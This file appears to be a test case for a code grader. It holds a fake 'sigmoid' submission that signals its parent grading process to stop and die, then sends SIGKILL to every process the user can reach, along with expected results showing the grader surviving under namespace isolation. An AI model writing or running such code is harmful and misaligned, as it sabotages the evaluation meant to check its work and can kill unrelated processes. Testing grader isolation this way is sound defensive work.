"""Signals to the grading process and to every process the user may signal
(kill(-1), which spares the caller): as root the child runs as its own user, in a PID
namespace of its own where there is nobody else to signal, so the grader survives and
sigmoid simply returns None."""

# ruff: noqa
EXPECT = {
    "status": "partial",
    "checks": {"attack_sigmoid_values": "failed", "attack_relu_still_graded": "passed"},
    "message": "returned None",
    "root_only": True,
}

import os
import signal


def sigmoid(z):
    for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
        try:
            os.kill(os.getppid(), number)
        except OSError:
            pass
    try:
        os.kill(-1, signal.SIGKILL)  # everything this user may signal, itself included
    except OSError:
        pass
